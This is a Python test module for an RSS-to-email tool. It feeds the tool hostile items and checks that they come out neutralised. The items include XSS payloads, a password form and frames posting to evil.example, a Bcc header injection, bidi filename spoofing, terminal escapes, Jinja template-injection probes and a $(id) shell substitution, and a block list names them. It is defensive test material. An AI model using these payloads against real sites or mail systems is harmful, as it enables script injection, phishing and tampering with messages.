"""Words that are code to somebody: to a browser, a terminal, a mail server, a template engine, a provider."""

from __future__ import annotations

import html

from tests.hostile.publisher import FEED, FIRST, SECOND, Behaviour, good, item, rss, sentences, served

_LIVE = (
    "<script",
    "<iframe",
    "<form",
    "<object",
    "<embed",
    "<svg",
    "javascript:",
    "onerror=",
    "onclick=",
    "evil.example",
)
_INVISIBLE = "\u202e\u202d\u2066\u2069\u200b\u200e\ufeff\u00ad"


def _active(name: str, markup: str) -> Behaviour:
    """A piece whose text holds something alive between its good sentences."""
    text = f"<p>Before it.</p>{markup}{sentences('plain words', 2)}<p>After it.</p>"
    return Behaviour(
        f"puts {name} into a text",
        {FEED: served(rss(good(0), item(SECOND, 2, text=text)))},
        (FIRST, SECOND),
        mailed=(FIRST, SECOND),
        never=_LIVE,
    )


def _titled(name: str, title: str, stored: str, *never: str) -> Behaviour:
    """A piece with this title, as XML; what is stored is what the mail shows."""
    return Behaviour(
        f"puts {name} into a title",
        {FEED: served(rss(good(0), item(title, 2)))},
        (FIRST, stored),
        mailed=(FIRST, " ".join(stored.split())),
        never=(*_LIVE, *never),
    )


def _verbatim(name: str, tag: str) -> Behaviour:
    """A piece that writes about a tag of somebody's: in its title, its author and each sentence of its text."""
    title = f"How {tag} came to be text"
    author = f"<dc:creator xmlns:dc='http://purl.org/dc/elements/1.1/'>{html.escape(tag)} Writer</dc:creator>"
    piece = item(html.escape(html.escape(title)), 2, text=sentences(tag, 2), extra=author)
    return Behaviour(
        f"writes {name}",
        {FEED: served(rss(good(0), piece))},
        (FIRST, title),
        mailed=(FIRST, title, f"the log of it said {tag} to everyone"),
    )


_ESCAPED_SCRIPT = html.escape(html.escape("<script>alert(1)</script>"))

BEHAVIOURS = (
    _active("a script", "<script>alert('evil.example')</script>"),
    _active("a script in pieces", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _active("a form", "<form action='http://evil.example'><input type=password><button>Send</button></form>"),
    _active("event handlers", "<img src=x onerror=alert(1)><p onclick='alert(1)' onmouseover=alert(1)>Text.</p>"),
    _active("a javascript link", "<p><a href='javascript:alert(1)'>click</a> <a href='jAvA\tscript:x'>here</a></p>"),
    _active("a data link", "<p><a href='data:text/html;base64,PHNjcmlwdD4='>data</a></p>"),
    _active("a relative link", "<p><a href='../../admin?delete=1'>relative</a> <a href='//evil.example'>other</a></p>"),
    _active("a base address", "<base href='http://evil.example/'>"),
    _active("a frame", "<iframe src='http://evil.example'></iframe><object data='http://evil.example'></object>"),
    _active(
        "a style sheet",
        "<style>body{background:url(http://evil.example)}</style><link rel=stylesheet href=//evil.example>",
    ),
    _active("a tracking pixel", "<img src='http://evil.example/pixel.gif' width=1 height=1>"),
    _active("a drawing with a script", "<svg onload=alert(1)><script>alert('evil.example')</script></svg>"),
    _active("a formula with a link", "<math><maction xlink:href='javascript:alert(1)'>x</maction></math>"),
    _active("a comment for Outlook", "<!--[if mso]><script>evil.example</script><![endif]-->"),
    _active(
        "a template",
        "<template><script>evil.example</script></template><noscript><img src=x onerror=alert(1)></noscript>",
    ),
    _titled("a script", "&lt;script&gt;alert(1)&lt;/script&gt;A title with a script", "A title with a script"),
    _titled("an escaped script", f"{_ESCAPED_SCRIPT}A title about a script", "A title about a script"),
    _titled(
        "a picture with a handler", "A picture &lt;img src=x onerror=alert(1)&gt; in a title", "A picture in a title"
    ),
    _titled(
        "line breaks",
        "A title&#13;&#10;Bcc: all@example.com&#10;&#10;on four lines",
        "A title Bcc: all@example.com on four lines",
    ),
    _titled(
        "bidirectional overrides",
        "A title\u202egnp.exe\u202c with \u2066turns\u2069",
        "A titlegnp.exe with turns",
        "\u202e",
        "\u2066",
    ),
    _titled("invisible characters", f"A tit{_INVISIBLE}le unseen", "A title unseen", *_INVISIBLE),
    _titled("U+0092", "It\u0092s a title of Windows", "It\u2019s a title of Windows", "\u0092"),
    _titled("U+0092 as a reference", "It&#146;s a title by number", "It\u2019s a title by number", "\u0092"),
    _titled(
        "other C1 characters",
        "A\u0085title\u008dwith\u009fcontrols",
        "A…titlewithŸcontrols",
        "\u0085",
        "\u008d",
        "\u009f",
    ),
    _titled("colours for a terminal", "A \x1b[31mred\x1b[0m title \x07", "A [31mred[0m title", "\x1b", "\x07"),
    _titled("line and paragraph separators", "A\u2028title\u2029apart", "A title apart", "\u2028", "\u2029"),
    _titled("nothing but spaces", "&#160; \u3000 &#8203;", "Untitled"),
    _titled("400 combining marks", "Z" + "\u0310" * 400 + "algo", "Z" + "\u0310" * 400 + "algo"),
    _titled(
        "an emoji of many", "A family 👨\u200d👩\u200d👧\u200d👦 title", "A family 👨\u200d👩\u200d👧\u200d👦 title"
    ),
    _verbatim("a substitution of SendGrid's", "-sub-"),
    _verbatim("a substitution of SendGrid's in percent signs", "%email%"),
    _verbatim("a handlebars tag", "{{name}}"),
    _verbatim("a triple handlebars tag", "{{{unsubscribe}}}"),
    _verbatim("a tag of SendGrid's for unsubscribing", "<%asm_group_unsubscribe_raw_url%>"),
    _verbatim("a section tag of SendGrid's", "[%section%]"),
    _verbatim("a merge tag of Mailchimp's", "*|UNSUB|*"),
    _verbatim("a sum for Jinja", "{{ 7*7 }}"),
    _verbatim("a walk through Jinja's objects", "{{ ''.__class__.__mro__ }}"),
    _verbatim("raw for Jinja", "{% raw %}"),
    _verbatim("the end of raw for Jinja", "{% endraw %}{{ 7*7 }}"),
    _verbatim("an include for Jinja", "{% include 'issue.txt' %}"),
    _verbatim("a comment for Jinja", "{# not here #}"),
    _verbatim("a tag of MJML's", "<mj-raw>"),
    _verbatim("the end of a document of MJML's", "</mj-text></mj-column></mjml>"),
    _verbatim("an include for MJML", "<mj-include path='x'/>"),
    _verbatim("a format of Python's", "{0.__class__} %(x)s %s"),
    _verbatim("a variable of a shell's", "$(id) `id` ${PATH}"),
)
